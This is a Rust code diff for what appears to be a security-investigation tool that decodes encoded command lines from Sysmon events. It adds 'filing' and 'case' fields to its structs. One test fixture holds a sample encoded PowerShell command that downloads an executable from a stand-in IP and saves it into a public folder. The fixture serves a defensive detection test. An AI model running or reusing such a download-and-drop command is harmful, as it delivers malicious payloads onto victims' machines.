@@ -131,7 +131,7 @@ impl Tool for Decode {
         rows.extend(reading.rows());
         let header = Header { total: rows.len() as u64, ..Header::default() };
         let data = serde_json::to_value(reading).unwrap_or_default();
-        Ok(Answer { header, rows, cut: 0, data })
+        Ok(Answer { header, rows, cut: 0, data, filing: None })
     }
 }
 
@@ -156,7 +156,12 @@ mod tests {
         let inner = encoded("Invoke-WebRequest http://203.0.113.9/x.exe -OutFile C:\\Users\\Public\\x.exe");
         let data = json!({"CommandLine": format!("powershell.exe -enc {inner}")});
         let (_folder, store) = store(vec![event("e", 0, "WKS-1", (SYSMON, 1), data)]).await;
-        let scope = Scope { alerts: Arc::default(), events: store, watermark: Watermark(u64::MAX) };
+        let scope = Scope {
+            case: crate::fixtures::CASE,
+            alerts: Arc::default(),
+            events: store,
+            watermark: Watermark(u64::MAX),
+        };
         let answer = Decode.call(serde_json::from_value(arguments).expect("they fit"), &scope).await?;
         let reading = serde_json::from_value(answer.data.clone()).expect("it is typed");
         Ok((answer, reading))
